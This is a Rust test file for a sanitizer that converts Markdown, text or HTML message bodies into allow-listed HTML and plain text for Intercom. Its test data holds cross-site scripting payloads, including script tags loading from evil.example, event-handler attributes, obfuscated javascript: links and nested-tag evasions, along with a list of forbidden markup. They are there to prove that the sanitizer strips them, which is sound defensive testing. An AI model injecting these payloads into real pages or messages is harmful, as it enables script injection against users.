use super::text::html_to_text;
use super::*;

fn md(body: &str) -> String {
    to_intercom_html(body, BodyFormat::Markdown)
}

#[test]
fn markdown_becomes_the_html_intercom_renders() {
    let cases = [
        ("**Refund** issued", "<p><strong>Refund</strong> issued</p>"),
        ("*soon* and _now_", "<p><em>soon</em> and <em>now</em></p>"),
        ("Hi Jane,\nyour refund is on its way.", "<p>Hi Jane,<br>your refund is on its way.</p>"),
        ("one  \ntwo", "<p>one<br>two</p>"),
        ("First paragraph.\n\nSecond paragraph.", "<p>First paragraph.</p><p>Second paragraph.</p>"),
        ("- one\n- two", "<ul><li>one</li><li>two</li></ul>"),
        ("1. first\n2. second", "<ol><li>first</li><li>second</li></ol>"),
        ("- a\n\n- b", "<ul><li><p>a</p></li><li><p>b</p></li></ul>"),
        ("- a\n  - a1\n- b", "<ul><li>a<ul><li>a1</li></ul></li><li>b</li></ul>"),
        ("Run `ls -l` now", "<p>Run <code>ls -l</code> now</p>"),
        ("```\nif a < b {\n  go();\n}\n```", "<pre><code>if a &lt; b {\n  go();\n}</code></pre>"),
        ("    indented & code", "<pre><code>indented &amp; code</code></pre>"),
        ("x < y & z", "<p>x &lt; y &amp; z</p>"),
        ("Fish &amp; chips", "<p>Fish &amp; chips</p>"),
        ("\"quoted\" 'single'", "<p>&quot;quoted&quot; 'single'</p>"),
        ("# Title", "<h1>Title</h1>"),
        ("## Section", "<h2>Section</h2>"),
        ("### Sub", "<h3>Sub</h3>"),
        ("#### Deeper\n###### Deepest", "<h3>Deeper</h3><h3>Deepest</h3>"),
        ("> quoted reply", "<p>quoted reply</p>"),
        ("", ""),
    ];
    for (markdown, html) in cases {
        assert_eq!(md(markdown), html, "{markdown:?}");
    }
}

#[test]
fn links_keep_only_web_and_mail_targets() {
    let cases = [
        ("[help](https://example.com/help)", r#"<p><a href="https://example.com/help">help</a></p>"#),
        ("[site](http://example.com)", r#"<p><a href="http://example.com">site</a></p>"#),
        ("[mail us](mailto:help@example.com)", r#"<p><a href="mailto:help@example.com">mail us</a></p>"#),
        (
            "<https://example.com/a?b=1&c=2>",
            r#"<p><a href="https://example.com/a?b=1&amp;c=2">https://example.com/a?b=1&amp;c=2</a></p>"#,
        ),
        ("<help@example.com>", r#"<p><a href="mailto:help@example.com">help@example.com</a></p>"#),
        ("[x](javascript:alert(1))", "<p>x</p>"),
        ("[x](JAVASCRIPT:alert(1))", "<p>x</p>"),
        ("[x](data:text/html,<script>alert(1)</script>)", "<p>x</p>"),
        ("[x](vbscript:msgbox)", "<p>x</p>"),
        ("[relative](/settings)", "<p>relative</p>"),
        (
            r#"[q](https://example.com/"onmouseover="x)"#,
            r#"<p><a href="https://example.com/&quot;onmouseover=&quot;x">q</a></p>"#,
        ),
    ];
    for (markdown, html) in cases {
        assert_eq!(md(markdown), html, "{markdown:?}");
    }
}

#[test]
fn elements_off_the_allow_list_show_as_typed() {
    assert_eq!(md("![chart](https://example.com/c.png)"), "<p>![chart](https://example.com/c.png)</p>");
    assert_eq!(md("| a | b |\n|---|---|\n| 1 | 2 |"), "<p>| a | b |<br>|---|---|<br>| 1 | 2 |</p>");
    assert_eq!(md("above\n\n***\n\nbelow"), "<p>above</p><p>***</p><p>below</p>");
    assert_eq!(md("~~old~~ price"), "<p>~~old~~ price</p>");
}

#[test]
fn html_inside_markdown_passes_only_on_the_allow_list() {
    let cases = [
        ("Your order is <b>ok</b>", "<p>Your order is <b>ok</b></p>"),
        ("<p>Already <i>HTML</i></p>", "<p>Already <i>HTML</i></p>"),
        (r#"<p onclick="steal()">Hi</p>"#, "<p>Hi</p>"),
        (
            r#"see <a href="https://example.com" onclick="x()">this</a>"#,
            r#"<p>see <a href="https://example.com">this</a></p>"#,
        ),
        (r#"see <a href="javascript:alert(1)">this</a>"#, "<p>see this</p>"),
        ("<script>alert(1)</script>", "<p>&lt;script&gt;alert(1)&lt;/script&gt;</p>"),
        ("Hi <script>alert(1)</script>", "<p>Hi &lt;script&gt;alert(1)&lt;/script&gt;</p>"),
        ("<img src=x onerror=alert(1)>", "<p>&lt;img src=x onerror=alert(1)&gt;</p>"),
        ("a <img src=x onerror=alert(1)> b", "<p>a &lt;img src=x onerror=alert(1)&gt; b</p>"),
        ("<div>block</div>", "<p>&lt;div&gt;block&lt;/div&gt;</p>"),
        ("open <b>bold\n\nnext", "<p>open <b>bold</b></p><p>next</p>"),
        ("<ul>\n<li>one</li>\n<li>two</li>\n</ul>", "<ul>\n<li>one</li>\n<li>two</li>\n</ul>"),
        ("<!-- hidden -->visible", "<p>visible</p>"),
    ];
    for (markdown, html) in cases {
        assert_eq!(md(markdown), html, "{markdown:?}");
    }
}

#[test]
fn nothing_executable_ever_passes() {
    let hostile = [
        "<script>alert(1)</script>",
        "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
        "<img src=x onerror=alert(1)>",
        "<svg onload=alert(1)>",
        "<iframe src=\"https://evil.example\"></iframe>",
        "<a href=\"javascript:alert(1)\">x</a>",
        "<a href=\"jav&#x09;ascript:alert(1)\">x</a>",
        "<a href=\" javascript:alert(1)\">x</a>",
        "[x](javascript:alert(1))",
        "[x]( javascript:alert(1) )",
        "<p style=\"background:url(javascript:alert(1))\">x</p>",
        "<b onmouseover=alert(1)>x</b>",
        "<a href='https://ok.example' onclick=alert(1)>x</a>",
        "<<script>script>alert(1)<</script>/script>",
        "<scr<script>ipt>alert(1)</script>",
        "`<script>alert(1)</script>`",
        "<math><mi xlink:href=\"javascript:alert(1)\">x</mi></math>",
    ];
    for body in hostile {
        for format in [BodyFormat::Markdown, BodyFormat::Text, BodyFormat::Html] {
            let html = to_intercom_html(body, format);
            let lower = html.to_ascii_lowercase();
            for forbidden in
                ["<script", "<img", "<svg", "<iframe", "<math", "<mi", "href=\"javascript", "href=\" javascript"]
            {
                assert!(!lower.contains(forbidden), "{format} {body:?} gave {html:?}");
            }
            // Attributes other than href never survive (as markup: escaped text may mention them).
            for attribute in [" onerror=", " onclick=", " onload=", " onmouseover=", " style=", " src="] {
                let in_a_tag =
                    lower.split('<').skip(1).any(|tag| tag.split('>').next().is_some_and(|t| t.contains(attribute)));
                assert!(!in_a_tag, "{format} {body:?} gave {html:?}");
            }
        }
    }
}

#[test]
fn text_is_escaped_with_its_lines_kept() {
    let text = |body| to_intercom_html(body, BodyFormat::Text);
    assert_eq!(text("Hi Jane,\nyour **refund** <b>is</b> on its way.\n\nThanks & bye"), {
        "<p>Hi Jane,<br>your **refund** &lt;b&gt;is&lt;/b&gt; on its way.</p><p>Thanks &amp; bye</p>"
    });
    assert_eq!(text("a\r\nb\r\n\r\n\r\nc  "), "<p>a<br>b</p><p>c</p>");
    assert_eq!(text("  \n\n "), "");
}

#[test]
fn html_is_reduced_to_the_allow_list() {
    let html = |body| to_intercom_html(body, BodyFormat::Html);
    assert_eq!(html("<p>Hi <b>Jane</b></p><p>Done</p>"), "<p>Hi <b>Jane</b></p><p>Done</p>");
    assert_eq!(html("<div>one</div><div><span>two</span></div>"), "one<br>two<br>");
    assert_eq!(html("<p>x<script>alert(1)</script></p><style>p{}</style>"), "<p>x</p>");
    assert_eq!(html("<p>Fish &amp; chips &lt;3</p>"), "<p>Fish &amp; chips &lt;3</p>");
    assert_eq!(html("<h6 id=x>Note</h6><img src=x onerror=alert(1)>"), "<h3>Note</h3>");
    assert_eq!(html("<ul><li>open"), "<ul><li>open</li></ul>");
}

#[test]
fn customer_text_is_readable_plain_text() {
    let cases = [
        ("**Refund** issued", BodyFormat::Markdown, "Refund issued"),
        (
            "See [the guide](https://example.com/guide)",
            BodyFormat::Markdown,
            "See the guide (https://example.com/guide)",
        ),
        ("line one\nline two\n\nnext paragraph", BodyFormat::Markdown, "line one\nline two\nnext paragraph"),
        ("- a\n- b", BodyFormat::Markdown, "- a\n- b"),
        ("x < y & z", BodyFormat::Markdown, "x < y & z"),
        ("`cargo build`", BodyFormat::Markdown, "cargo build"),
        ("<p>Hi <b>there</b></p><p>Bye</p>", BodyFormat::Html, "Hi there\nBye"),
        ("  **as typed**\nsecond line  ", BodyFormat::Text, "**as typed**\nsecond line"),
    ];
    for (body, format, text) in cases {
        assert_eq!(to_customer_text(body, format), text, "{format} {body:?}");
    }
}

#[test]
fn comparable_text_matches_what_intercom_renders_back() {
    let bodies = [
        "**Refund** issued",
        "Hi Jane,\nyour refund is on its way.\n\nThanks!",
        "- one\n- two\n\n1. first\n2. second",
        "```\nif a < b {\n  go();\n}\n```",
        "x < y & z",
        "Fish &amp; chips &lt;b&gt;",
        "literal <b>bold</b> and <script>alert(1)</script> shown",
        "See [the guide](https://example.com/guide) or <https://example.com>",
        "# Title\n\nBody with `code` and *emphasis*",
        "![chart](https://example.com/c.png) and a&nbsp;b",
        "<p>Already <i>HTML</i></p>\n\n<div>typed div</div>",
        "a <b and more",
        "",
    ];
    for body in bodies {
        for format in [BodyFormat::Markdown, BodyFormat::Text, BodyFormat::Html] {
            let sent = to_intercom_html(body, format);
            let intercom_plaintext = html_to_text(&sent);
            assert_eq!(comparable_text(&sent), comparable_text(&intercom_plaintext), "{format} {body:?} sent {sent:?}");
        }
    }
    assert_eq!(
        comparable_text("<p>Hi Jane,<br>your refund</p>\n<p>Thanks &amp; bye</p>"),
        "Hi Jane, your refund Thanks & bye"
    );
    assert_eq!(comparable_text("Hi Jane,\n\n  your refund"), "Hi Jane, your refund");
}

#[test]
fn hostile_runs_format_without_blowing_up() {
    // 100,000 of the characters that open markup, then shorter runs of other openers (each was timed at 25k, 50k
    // and 100k: twice the input, about twice the time).
    let long = ["<", "*", "["].map(|unit| (unit, 100_000));
    let short = ["_", "`", "![", "[a](", "<a ", "&", "> ", "- ", "1. ", "**a", "\n", "<!--", "](", "\\"]
        .map(|unit| (unit, 20_000));
    for (unit, count) in long.into_iter().chain(short) {
        let body = unit.repeat(count);
        for format in [BodyFormat::Markdown, BodyFormat::Text, BodyFormat::Html] {
            let html = to_intercom_html(&body, format);
            assert!(html.len() <= 12 * body.len() + 64, "{format} {unit:?}: {} bytes", html.len());
            let text = to_customer_text(&body, format);
            assert!(text.len() <= 12 * body.len() + 64, "{format} {unit:?}: {} bytes of text", text.len());
        }
    }
}

#[test]
fn body_format_reads_its_names_and_says_what_is_allowed() {
    assert_eq!(BodyFormat::default(), BodyFormat::Markdown);
    for format in [BodyFormat::Markdown, BodyFormat::Text, BodyFormat::Html] {
        assert_eq!(format.to_string().parse::<BodyFormat>(), Ok(format));
        assert_eq!(serde_json::to_value(format).ok(), Some(serde_json::json!(format.as_str())));
        assert_eq!(serde_json::from_value::<BodyFormat>(serde_json::json!(format.as_str())).ok(), Some(format));
    }
    assert_eq!(" HTML ".parse::<BodyFormat>(), Ok(BodyFormat::Html));
    let error = "rich".parse::<BodyFormat>().err().map(|e| e.to_string());
    assert_eq!(error.as_deref(), Some(r#"unknown body format "rich": expected "markdown", "text" or "html""#));
    assert!(serde_json::from_value::<BodyFormat>(serde_json::json!("Markdown")).is_err());
}
